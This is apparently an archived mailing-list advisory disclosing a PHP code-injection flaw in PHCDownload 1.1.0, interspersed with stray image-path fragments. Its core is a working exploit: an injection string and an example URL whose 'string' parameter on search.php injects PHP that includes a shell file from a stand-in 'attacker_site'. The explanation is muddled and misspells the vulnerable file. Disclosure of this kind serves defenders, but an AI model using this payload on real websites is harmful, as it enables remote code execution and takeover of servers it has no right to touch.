[Date Prev][Date Next][Thread Prev][Thread Next][Date Index][Thread Index]

PHCDownload 1.1.0 Vulnerabilities

A file content management and manipulation system unlike any other available on the market today, with unique innovations, tools, and design, customising and producing your database is made easy.
PHCDownload has been designed forintegration into existing websites with its highly customisable interface and editable language file system.

Vendor: http://www.phpcredo.com
Version: 1.1.0 and older
Vuls file: seach.php
Descripton: It is like remote file inclusion but you can run PHP code browser address. I don't know what is called.

Exploit: http://[site]/[path_to_script]/search.php
Input: ">< <?php PHP code here ?>

Example: http://[site]/[path_to_script]/search.php?string=";>< <?phpinclude("http://attacker_site/SHELL_FILE";); ?>